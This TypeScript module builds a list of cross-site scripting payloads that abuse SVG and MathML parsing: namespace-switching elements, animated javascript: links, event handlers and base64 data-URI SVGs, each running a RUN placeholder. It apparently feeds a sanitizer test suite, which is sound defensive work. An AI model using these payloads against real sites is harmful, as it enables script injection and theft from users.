import { base64, combineEach, type Vector } from "../fragment.ts";

const payloads = [
  "<img src=x: onerror=RUN>",
  "<p onclick=RUN>x</p>",
  "<a href=javascript:RUN>x</a>",
];

/** Elements of SVG and MathML that may contain HTML. */
const portals = [
  [
    "<svg><foreignObject>@</foreignObject></svg>",
    "<svg><desc>@</desc></svg>",
    "<svg><title>@</title></svg>",
  ],
  [
    "<math><mtext>@</mtext></math>",
    "<math><mi>@</mi></math>",
    "<math><ms>@</ms></math>",
    "<math><mo>@</math>",
  ],
  [
    `<math><annotation-xml encoding="text/html">@</annotation-xml></math>`,
    "<math><mn>@</mn></math>",
  ],
  [
    `<math><annotation-xml encoding="application/xhtml+xml">@</math>`,
    "<svg><p>@</svg>",
    "<math><p>@</math>",
  ],
  ["<svg><math><mtext>@</mtext></math></svg>", "<svg><switch><foreignObject>@</switch></svg>"],
].flat();

/** An animation that sets the URL of a link after it was checked. */
const animated = combineEach(
  [
    `<svg><a><@ /><text y=9>x</text></a></svg>`,
    `<svg><a xlink:href=#><@></@><text y=9>x</text></a></svg>`,
    `<svg><a id=x><text y=9>x</text></a><@ xlink:href=#x /></svg>`,
  ],
  [
    "set attributeName=href to=javascript:RUN",
    "set attributeName=xlink:href to=javascript:RUN",
    "animate attributeName=href values=javascript:RUN dur=1ms fill=freeze",
    "animate attributeName=xlink:href to=javascript:RUN begin=0s dur=1ms fill=freeze",
    "animate attributeName=href from=javascript:RUN to=x dur=9s",
  ],
);

const svgs: Vector[] = [
  `<svg><a href=javascript:RUN><text y=9>x</text></a></svg>`,
  `<svg><a xlink:href="javascript:RUN"><rect width=9 height=9 /></a></svg>`,
  `<svg><a href="&#106;avascript:RUN"><circle r=9 /></a></svg>`,
  `<svg><g onclick=RUN><text y=9>x</text></g></svg>`,
  `<svg><path onmouseover=RUN d="M0,0h9v9z"/></svg>`,
  `<svg><text onfocus=RUN tabindex=0 y=9>x</text></svg>`,
  `<svg onfocus=RUN tabindex=0 autofocus></svg>`,
  `<svg onfocusin=RUN><a tabindex=0 autofocus><text>x</text></a></svg>`,
  `<svg><style onload=RUN>a{}</style></svg>`,
  `<svg><style>{</style><img src=x: onerror=RUN></svg>`,
  `<svg><style><img src=x: onerror=RUN></style></svg>`,
  `<svg><![CDATA[><img src=x: onerror=RUN>]]></svg>`,
  `<svg><!--><img src=x: onerror=RUN>--></svg>`,
  `<svg><title><style><img src=x: onerror=RUN></style></title></svg>`,
  `<svg><discard onbegin=RUN></svg>`,
  `<svg><handler type=text/javascript>RUN</handler></svg>`,
  `<svg><listener event=load handler=#x /><script id=x>RUN</script></svg>`,
  `<svg><x:script xmlns:x="http://www.w3.org/1999/xhtml">RUN</x:script></svg>`,
  `<svg><iframe srcdoc="<script>RUN</script>"></iframe></svg>`,
  `<svg><body onload=RUN></svg>`,
  `<svg><br><img src=x: onerror=RUN>`,
  `<svg></p><img src=x: onerror=RUN>`,
  `<svg><font color=x><img src=x: onerror=RUN>`,
  `<svg viewBox="0 0 1 1" onclick=RUN onload="RUN"/>`,
  `<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"></svg>`,
  `<SVG ONLOAD=RUN></SVG>`,
  `<svg\nonload\n=\nRUN>`,
  `<svg onload="&#95;&#95;ran;RUN">`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='RUN'/>#x"/></svg>`,
  (run) => `<svg><use href="data:image/svg+xml;base64,${base64(svgOf(run))}#x"/></svg>`,
  (run) => `<img src="data:image/svg+xml;base64,${base64(svgOf(run))}">`,
  (run) => `<object data="data:image/svg+xml;base64,${base64(svgOf(run))}"></object>`,
  (run) => `<embed src="data:image/svg+xml;base64,${base64(svgOf(run))}" type="image/svg+xml">`,
  (run) => `<iframe src="data:image/svg+xml;base64,${base64(svgOf(run))}"></iframe>`,
];

const svgOf = (run: string): string =>
  `<svg id="x" xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script></svg>`;

const maths: Vector[] = [
  `<math onclick=RUN>x</math>`,
  `<math><mi onclick=RUN>x</mi></math>`,
  `<math href="javascript:RUN"><mi>x</mi></math>`,
  `<math><mrow href="javascript:RUN"><mi>x</mi></mrow></math>`,
  `<math><maction actiontype=statusline xlink:href="javascript:RUN">x</maction></math>`,
  `<math><maction actiontype="statusline#http://x" xlink:href=javascript:RUN>x`,
  `<math><mglyph src=javascript:RUN></math>`,
  `<math><malignmark><img src=x: onerror=RUN></math>`,
  `<math><annotation-xml><img src=x: onerror=RUN></annotation-xml></math>`,
  `<math><mtext><mglyph><img src=x: onerror=RUN></mglyph></mtext></math>`,
  `<math><script>RUN</script></math>`,
  `<math><style><img src=x: onerror=RUN></style></math>`,
  `<math tabindex=0 autofocus onfocus=RUN></math>`,
  `<math><x xlink:href=javascript:RUN onclick=RUN>x</x></math>`,
  `<math><semantics><annotation onclick=RUN>x</annotation></semantics></math>`,
];

export const foreign: Vector[] = [
  ...combineEach(portals, payloads),
  ...animated,
  ...svgs,
  ...maths,
];
